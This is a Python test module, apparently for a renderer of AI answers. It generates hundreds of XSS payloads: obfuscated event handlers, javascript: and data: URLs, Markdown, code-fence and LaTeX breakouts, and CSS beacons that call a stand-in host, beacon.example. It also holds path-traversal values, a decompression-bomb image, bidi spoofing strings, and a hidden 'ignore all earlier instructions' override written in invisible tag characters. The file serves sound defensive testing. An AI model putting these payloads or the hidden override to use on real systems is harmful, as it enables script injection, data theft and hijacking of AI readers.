"""Answers that try to run script, to call home when shown, or to deceive; all of our own making.

`pwn()` is what script would call; every address is of a host that must not be asked.
"""

import base64
import itertools
from collections.abc import Iterator
from typing import Any, Final

BEACON: Final = "beacon.example"
_CALL: Final = "pwn()"
_SVG: Final = f'<svg xmlns="http://www.w3.org/2000/svg" onload="{_CALL}"><script>{_CALL}</script></svg>'
_HTML: Final = f"<script>parent.{_CALL};opener.{_CALL}</script><img src=//{BEACON}/frame>"


def _base64(text: str) -> str:
    return base64.b64encode(text.encode()).decode()


def payloads() -> list[str]:
    """Every hostile text once, in a fixed order."""
    made = itertools.chain(
        _elements(),
        _addresses(),
        _pictures(),
        _references(),
        _codes(),
        _formulas(),
        _characters(),
        _nests(),
        _styles(),
    )
    return list(dict.fromkeys(made))


def _elements() -> Iterator[str]:
    """Markup that runs or loads, and ways to write it so that a filter would miss it."""
    handlers = [
        f"<img src=x onerror={_CALL}>",
        f'<img src="x" onerror="{_CALL}" />',
        f"<IMG SRC=x ONERROR={_CALL}>",
        f"<img/src=x/onerror={_CALL}>",
        f"<img src=x onerror\n=\n{_CALL}>",
        f"<img src=`x`onerror={_CALL}>",
        f"<img src=//{BEACON}/pixel.gif width=1 height=1>",
        f"<img srcset='//{BEACON}/set 2x'>",
        f"<picture><source srcset=//{BEACON}/source><img></picture>",
        f"<svg onload={_CALL}>",
        f"<svg/onload={_CALL}//",
        f"<svg><script>{_CALL}</script></svg>",
        f"<svg><script href=//{BEACON}/svg.js></script></svg>",
        f"<svg><animate onbegin={_CALL} attributeName=x dur=1s>",
        f"<svg><set attributeName=href to=javascript:{_CALL}><a><text y=20>go</text></a></svg>",
        f"<svg><use href='data:image/svg+xml;base64,{_base64(_SVG)}#x'></use></svg>",
        f"<svg><image href=//{BEACON}/svgimage></image></svg>",
        f"<svg><foreignObject><body onload={_CALL}></foreignObject></svg>",
        f"<math href='javascript:{_CALL}'>go</math>",
        f"<math><mtext><table><mglyph><style><img src=x onerror={_CALL}>",
        f"<math><annotation-xml encoding='text/html'><img src=x onerror={_CALL}></annotation-xml></math>",
        f"<body onload={_CALL}>",
        f"<body background=//{BEACON}/background>",
        f"<iframe src=javascript:{_CALL}></iframe>",
        f"<iframe srcdoc='<script>parent.{_CALL}</script>'></iframe>",
        f"<iframe src=//{BEACON}/iframe></iframe>",
        f"<frameset onload={_CALL}><frame src=//{BEACON}/frame></frameset>",
        f"<object data=javascript:{_CALL}></object>",
        f"<object data=//{BEACON}/object></object>",
        f"<embed src=//{BEACON}/embed>",
        f"<applet code={BEACON}></applet>",
        f"<video src=//{BEACON}/video autoplay onerror={_CALL}></video>",
        f"<video poster=//{BEACON}/poster></video>",
        f"<audio src=//{BEACON}/audio autoplay oncanplay={_CALL}></audio>",
        f"<video><track src=//{BEACON}/track default></video>",
        f"<input autofocus onfocus={_CALL}>",
        f"<input type=image src=//{BEACON}/input>",
        f"<select autofocus onfocus={_CALL}></select>",
        f"<textarea autofocus onfocus={_CALL}></textarea>",
        f"<button formaction=javascript:{_CALL}>go</button>",
        f"<form action=//{BEACON}/form><button autofocus>go</button></form>",
        f"<details open ontoggle={_CALL}><summary>go</summary></details>",
        f"<dialog open onclose={_CALL}><form method=dialog><button>go</button></form></dialog>",
        f"<marquee onstart={_CALL}>go</marquee>",
        f"<p onmouseover={_CALL}>go</p>",
        f"<div onpointerenter={_CALL}>go</div>",
        f"<a href=javascript:{_CALL}>go</a>",
        f"<a href=//{BEACON}/ping ping=//{BEACON}/ping>go</a>",
        f"<base href=//{BEACON}/>",
        f"<link rel=stylesheet href=//{BEACON}/style.css>",
        f"<link rel=prefetch href=//{BEACON}/prefetch>",
        f"<link rel=preconnect href=//{BEACON}>",
        f"<link rel=dns-prefetch href=//{BEACON}>",
        f"<link rel=modulepreload href=//{BEACON}/module.js>",
        f"<meta http-equiv=refresh content='0;url=//{BEACON}/refresh'>",
        "<meta http-equiv=Content-Security-Policy content=\"script-src 'unsafe-inline'\">",
        f"<script>{_CALL}</script>",
        f"<script src=//{BEACON}/script.js></script>",
        f"<script type=module>import '//{BEACON}/module.js'</script>",
        f"<script\x0c>{_CALL}</script>",
        f"<scr<script>ipt>{_CALL}</scr</script>ipt>",
        f"<noscript><p title='</noscript><img src=x onerror={_CALL}>'>",
        f"<template><script>{_CALL}</script></template>",
        f"<template shadowrootmode=open><script>{_CALL}</script></template>",
        f"<xmp><img src=x onerror={_CALL}></xmp>",
        f"<plaintext><img src=x onerror={_CALL}>",
        f"<!--><img src=x onerror={_CALL}>-->",
        f"<!--[if gte IE 4]><script>{_CALL}</script><![endif]-->",
        f"<![CDATA[<img src=x onerror={_CALL}>]]>",
        f"<?xml-stylesheet href='javascript:{_CALL}'?>",
        f"<!DOCTYPE x [<!ENTITY e SYSTEM 'http://{BEACON}/entity'>]><x>&e;</x>",
        f"</div></pairvote-compare><img src=x onerror={_CALL}>",
        f"<slot name=heading onslotchange={_CALL}>",
        f"<x-y is=script onfocus={_CALL} tabindex=0 autofocus>",
        f"<pairvote-compare ticket=x endpoint=//{BEACON}/v1></pairvote-compare>",
        f"&lt;img src=x onerror={_CALL}&gt;",
        f"&#60;img src=x onerror={_CALL}&#62;",
        f"\\<img src=x onerror={_CALL}\\>",
        f"\uff1cimg src=x onerror={_CALL}\uff1e",
    ]
    yield from handlers
    # The same where Markdown treats its text otherwise.
    for frame in (
        "> {}",
        "- {}",
        "# {}",
        "**{}**",
        "|a|\n|-|\n|{}|",
        "[{}](https://a.example)",
        "![{}](https://a.example/x.png)",
    ):
        yield from (frame.format(markup) for markup in handlers[:10])


_SCHEMES: Final = (
    f"javascript:{_CALL}",
    f"JaVaScRiPt:{_CALL}",
    f"javascript\t:{_CALL}",
    f"java\tscript:{_CALL}",
    f"java&Tab;script:{_CALL}",
    f"java&NewLine;script:{_CALL}",
    f"java&#9;script:{_CALL}",
    f"java&#x0A;script:{_CALL}",
    f"&#106;avascript:{_CALL}",
    f"&#x6A;&#x61;&#x76;&#x61;script&colon;{_CALL}",
    f"javascript&colon;{_CALL}",
    f"javascript&#58;{_CALL}",
    f"\\javascript:{_CALL}",
    f"javascript\\:{_CALL}",
    f"java\\script:{_CALL}",
    f"%6Aavascript:{_CALL}",
    f"javascript%3A{_CALL}",
    f"\x01javascript:{_CALL}",
    f"\u00a0javascript:{_CALL}",
    f"\ufeffjavascript:{_CALL}",
    f"\u200bjavascript:{_CALL}",
    f"\u202ejavascript:{_CALL}",
    f"java\u00adscript:{_CALL}",
    f"java\x00script:{_CALL}",
    f"ｊavascript:{_CALL}",
    f"javascript://%0a{_CALL}",
    f"javascript://https://a.example/%0a{_CALL}",
    f"javascript:void(0);{_CALL}//https://a.example",
    f"vbscript:{_CALL}",
    f"livescript:{_CALL}",
    f"view-source:javascript:{_CALL}",
    f"feed:javascript:{_CALL}",
    f"jar:https://{BEACON}/x.jar!/x.html",
    f"data:text/html;base64,{_base64(_HTML)}",
    f"data:text/html,{_HTML.replace(' ', '%20').replace('<', '%3C').replace('>', '%3E')}",
    f"data:image/svg+xml;base64,{_base64(_SVG)}",
    f"data:image/svg+xml,{_SVG.replace(' ', '%20').replace('<', '%3C').replace('>', '%3E')}",
    f"data:text/javascript,{_CALL}",
    f"data:image/png,text/html;base64,{_base64(_HTML)}",
    f"data:image/png;text/html;base64,{_base64(_HTML)}",
    f"data:;base64,{_base64(_HTML)}",
    f"data:application/xhtml+xml;base64,{_base64(_SVG)}",
    "blob:https://a.example/6e1b",
    "filesystem:https://a.example/temporary/x.html",
    "file:///etc/passwd",
    "about:blank",
    "chrome://settings",
    "ms-word:ofe|u|https://a.example/x.docx",
    "intent://scan/#Intent;scheme=zxing;end",
    "tel:+4412345",
    "sms:+4412345",
    f"ws://{BEACON}/socket",
    f"ftp://{BEACON}/file",
    "//beacon.example/relative",
    "/logout",
    "?delete=all",
    "#top",
    "../admin",
    "\\\\beacon.example\\share",
    "/\\beacon.example",
    "http:beacon.example",
    "https:\\\\beacon.example",
    "https:///beacon.example",
    "http://beacon.example\\@a.example/",
    "https://a.example@beacon.example/",
    "https://a.example:secret@beacon.example/x",
    "https://a.example%2f@beacon.example/",
    "https://beacon.example#@a.example/",
    "https://xn--pple-43d.example/",
    "https://аpple.example/",
    "https://ⓑeacon.example/",
    "https://beacon。example/",
    "https://0x7f.1/",
    "http://[::1]/",
    "https://beacon.example/\u202egpj.exe",
    "mailto:a@b.example?subject=x&body=y",
    f"mailto:a@b.example%0aBcc:{BEACON}",
)


def _addresses() -> Iterator[str]:
    """Every address as a link and as an automatic link; some with words that lie about it."""
    for address in _SCHEMES:
        yield f"[go]({address})"
        yield f"[go](<{address}>)"
        yield f"<{address}>"
    yield f"[https://a.example](https://{BEACON}/liar)"
    yield f"[www.bank.example/login](https://{BEACON}/liar)"
    yield f"[go](https://a.example '\"><img src=x onerror={_CALL}>')"
    yield f'[go](https://a.example "javascript:{_CALL}")'
    yield f'[go](https://a.example" onclick="{_CALL})'
    yield f'[go](https://a.example/"onmouseover="{_CALL}")'
    yield f"[<img src=x onerror={_CALL}>](https://a.example)"
    yield f"[a](javascript:{_CALL} 'b')"
    yield f"[a]( \n javascript:{_CALL})"
    yield f"[![go](https://{BEACON}/in-link.png)](javascript:{_CALL})"
    yield f"[![go](javascript:{_CALL})](https://a.example)"
    yield f"[a[b](https://a.example)](javascript:{_CALL})"


def _pictures() -> Iterator[str]:
    """Pictures that would call home, or are no pictures."""
    for address in _SCHEMES:
        yield f"![alt]({address})"
    yield f"![](https://{BEACON}/pixel.gif?data=secret)"
    yield f'!["onerror="{_CALL}](https://{BEACON}/alt)'
    yield f"![alt](https://{BEACON}/title '\"onerror=\"{_CALL}')"
    yield f"![<img src=x onerror={_CALL}>](https://{BEACON}/markup)"
    yield f"![alt](https://{BEACON}/a.png =1x1)"
    yield f"![alt][beacon]\n\n[beacon]: https://{BEACON}/reference.png"
    yield "![alt](http://127.0.0.1:1/port)"
    yield f"![alt](data:image/png;base64,{_base64(_SVG)})"
    yield f"![alt](data:image/gif;base64,{_base64('GIF89a' + chr(255) * 4)})"
    yield f"![alt](data:image/jpeg;base64,{_base64(_HTML)})"
    # 30,000 pixels square, by its own word.
    bomb = base64.b64encode(b"\x89PNG\r\n\x1a\n\0\0\0\rIHDR\0\0\x75\x30\0\0\x75\x30\x08\x06\0\0\0").decode()
    yield f"![alt](data:image/png;base64,{bomb})"


def _references() -> Iterator[str]:
    for address in _SCHEMES[:36]:
        yield f"[go][ref]\n\n[ref]: {address}"
    yield f"[go]\n\n[go]: javascript:{_CALL} 'title'"
    yield f"[go]: <javascript:{_CALL}>\n\n[go]"
    yield f"[__proto__]: javascript:{_CALL}\n\n[__proto__] [constructor] [toString]"
    yield f"[go][a]\n\n[a]: https://a.example\n[a]: javascript:{_CALL}"
    yield f"[^1]: <img src=x onerror={_CALL}>\n\nnote[^1]"


def _codes() -> Iterator[str]:
    """Names of languages and contents of code that would leave their element."""
    names = [
        f'"><img src=x onerror={_CALL}>',
        f"'onmouseover='{_CALL}",
        f"js onclick={_CALL}",
        f"</code></pre><script>{_CALL}</script>",
        "__proto__",
        "constructor",
        "javascript:pwn()",
        "html\x00script",
        "\u202elmth",
        "mermaid",
        "svg",
        "python c-copy hl-x",
        f"&quot;&gt;&lt;img src=x onerror={_CALL}&gt;",
    ]
    for name in names:
        yield f"```{name}\n<img src=x onerror={_CALL}>\n```"
        yield f"~~~ {name}\n{_CALL}\n~~~"
    for language in (
        "html",
        "xml",
        "svg",
        "js",
        "css",
        "md",
        "python",
        "bash",
        "json",
        "php",
        "sql",
        "yaml",
        "diff",
    ):
        yield f"```{language}\n</code></pre><img src=x onerror={_CALL}><script>{_CALL}</script>\n```"
    yield f"`<img src=x onerror={_CALL}>`"
    yield f"``</code><script>{_CALL}</script>``"
    yield f"    <script>{_CALL}</script>"
    yield f"```html\n<script>{_CALL}</script>"
    yield f"```mermaid\ngraph TD; A[<img src=x onerror={_CALL}>] --> B; click A href 'javascript:{_CALL}'\n```"


def _formulas() -> Iterator[str]:
    commands = [
        f"\\href{{javascript:{_CALL}}}{{x}}",
        f"\\href{{https://{BEACON}/tex}}{{x}}",
        f"\\url{{javascript:{_CALL}}}",
        f"\\includegraphics{{https://{BEACON}/tex.png}}",
        f"\\includegraphics[width=1em,alt=x]{{https://{BEACON}/tex.png}}",
        "\\class{c-copy}{x}",
        "\\id{host}{x}",
        f"\\style{{background:url(https://{BEACON}/tex-style)}}{{x}}",
        f"\\data{{onclick={_CALL}}}{{x}}",
        "\\htmlData{a=b}{x}\\htmlStyle{color:red}{x}",
        f"\\text{{<img src=x onerror={_CALL}>}}",
        f"\\text{{</math><script>{_CALL}</script>}}",
        f"\\mathrm{{<script>{_CALL}</script>}}",
        f"\\unknown{{<img src=x onerror={_CALL}>}}",
        f"\\color{{red;background:url(//{BEACON}/colour)}}x",
        "\\textcolor{#f00}{x}\\colorbox{yellow}{y}",
        "\\rule{99999em}{99999em}",
        "\\hspace{-99999em}x",
        "\\def\\a{\\a\\a}\\a",
        f"\\def\\href#1#2{{#1}}\\href{{javascript:{_CALL}}}{{x}}",
        f"\\newcommand{{\\x}}{{\\href{{javascript:{_CALL}}}{{y}}}}\\x",
        "\\gdef\\__proto__{x}\\__proto__",
        "\\let\\frac\\href \\frac{javascript:pwn()}{x}",
        "\\begin{array}{c@{\\style{x}{y}}c}a&b\\end{array}",
        "\\label{host}\\ref{host}\\tag{<img src=x onerror=pwn()>}",
        "\\char`<\\char'74img src=x onerror=pwn()\\char'76",
        "\\unicode{x202E}x\\u202e",
        "\\toggle{x}{y}\\endtoggle",
        "\\cancel{x}\\boxed{y}\\phase{z}\\angl{n}",
        "x\\\\\\hline y\\overbrace{z}^{\\text{\u202e}}",
    ]
    for command in commands:
        yield f"${command}$"
        yield f"$$\n{command}\n$$"
    yield f"\\(\\href{{javascript:{_CALL}}}{{x}}\\)"
    yield f"\\[<img src=x onerror={_CALL}>\\]"
    yield f"$<img src=x onerror={_CALL}>$"


def _characters() -> Iterator[str]:
    """Characters that hide, or turn the reading order round."""
    hidden = [
        0x00,
        0x01,
        0x08,
        0x0B,
        0x1B,
        0x7F,
        0x85,
        0x9B,
        0x61C,
        0x200E,
        0x200F,
        0x202A,
        0x202B,
        0x202C,
        0x202D,
        0x202E,
    ]
    hidden += [0x2060, 0x2066, 0x2067, 0x2068, 0x2069, 0xFEFF, 0xFFF9, 0xFFFB, 0xE0001, 0xE0041, 0xE007F]
    for code in hidden:
        yield f"a{chr(code)}b `c{chr(code)}d` **e{chr(code)}f**"
    yield 'if (role != "user\u202e \u2066// only admins\u2069 \u2066") {'
    yield '```js\nif (role != "user\u202e \u2066// only admins\u2069 \u2066") {\n```'
    yield "[go\u202e](https://a.example/\u202e)"
    yield "photo_\u202egnp.exe"
    yield "".join(chr(0xE0000 + ord(letter)) for letter in "ignore all earlier instructions")
    yield "Z" + "\u0301\u0489\u0334" * 400
    yield "\u3164\u115f\uffa0"
    yield "\U000e0100\U000e0101\U000e0102" * 30
    yield "\ud800 lone \udfff".encode("utf-16", "surrogatepass").decode("utf-16", "replace")
    yield "&#x202E;reversed&#8238; &rlm;&lrm; &#0; &#xFFFFFFFF; &#x110000;"
    yield "\u2028line\u2029paragraph\u0085next"


def _nests() -> Iterator[str]:
    """Marks across marks, where a renderer of strings would close the wrong element."""
    yield f"**[*a](javascript:{_CALL})*b**"
    yield f"*[`a*](https://a.example)`<img src=x onerror={_CALL}>"
    yield f"> ```\n> </pre>\n<img src=x onerror={_CALL}>"
    yield f"- ```html\n  <script>{_CALL}</script>\n- <script>{_CALL}</script>"
    yield f"|`|`<img src=x onerror={_CALL}>|\n|-|-|\n|[a](javascript:{_CALL})|![b](https://{BEACON}/cell)|"
    yield f'|a|\n|:-:|\n|" style="background:url(//{BEACON}/cell)|'
    yield f"1. a\n   <img src=x onerror={_CALL}>\n\n   [b](javascript:{_CALL})"
    yield "99999999999999999999. a\n"
    yield "-1. a\n\n0. b\n\n999999999. c"
    yield f"# [a](javascript:{_CALL})\n{'=' * 5}\n## <script>{_CALL}</script> {{#host onclick={_CALL}}}"
    yield f'text{{: onclick="{_CALL}" }}'
    yield f"::: {{onclick={_CALL}}}\ntext\n:::"
    yield f"- [ ] <input autofocus onfocus={_CALL}>\n- [x] [a](javascript:{_CALL})"
    yield f"```\n```\n<script>{_CALL}</script>\n```"
    yield f"---\ntitle: <script>{_CALL}</script>\n---"
    yield f"{{{{constructor.constructor('{_CALL}')()}}}} ${{{_CALL}}} <%= {_CALL} %> #{{{_CALL}}}"
    yield f"[[{BEACON}|javascript:{_CALL}]] {{% include {BEACON} %}}"
    yield f"&lt;script&gt;{_CALL}&lt;/script&gt; &amp;lt;script&amp;gt;"
    yield f"\u2039script\u203a{_CALL}"
    yield f"~~<img src=x onerror={_CALL}>~~ ==<b>== ^<i>^"


def _styles() -> Iterator[str]:
    rules = f"*{{background:url(//{BEACON}/css)}}"
    yield f"<style>{rules}</style>"
    yield f"<style>@import '//{BEACON}/import.css';</style>"
    yield f"<p style='background:url(//{BEACON}/inline)'>a</p>"
    yield "<p style='position:fixed;inset:0;z-index:9999'>a cover</p>"
    yield f'<div style="width:expression({_CALL})">a</div>'
    yield f"<style>@font-face{{font-family:x;src:url(//{BEACON}/font)}}</style><p style='font-family:x'>a</p>"
    yield f"<svg><style>{rules}</style></svg>"
    yield "<link rel=stylesheet href='data:text/css,*{display:none}'>"
    yield "<p class='c-copy c-host'>a</p><p id=host part=root>b</p>"


def parts() -> list[list[dict[str, Any]]]:
    """Contents as parts, whose members try the same."""
    names = ["a\u202egnp.exe", f'"><img src=x onerror={_CALL}>', "../../etc/passwd", "a.html", "x" * 4_000]
    files = [
        {"type": "file", "file": {"filename": name, "file_data": f"data:text/html;base64,{_base64(_HTML)}"}}
        for name in names
    ]
    images = [
        {"type": "image_url", "image_url": {"url": address}}
        for address in (*_SCHEMES, f"https://{BEACON}/part.png", "upload:upl_<img>", "upload:../../v1/ticket")
    ]
    odd: list[dict[str, Any]] = [
        {"type": "input_audio", "input_audio": {"data": _base64(_HTML), "format": "html"}},
        {"type": "input_audio", "input_audio": {"data": "%%%", "format": f'"><img src=x onerror={_CALL}>'}},
        {"type": "<script>", "text": _CALL},
        {"type": "__proto__"},
        {"type": "image_url"},
        {"type": "file", "file": {}},
        {"type": "text"},
    ]
    return [[part] for part in (*files, *images, *odd)]
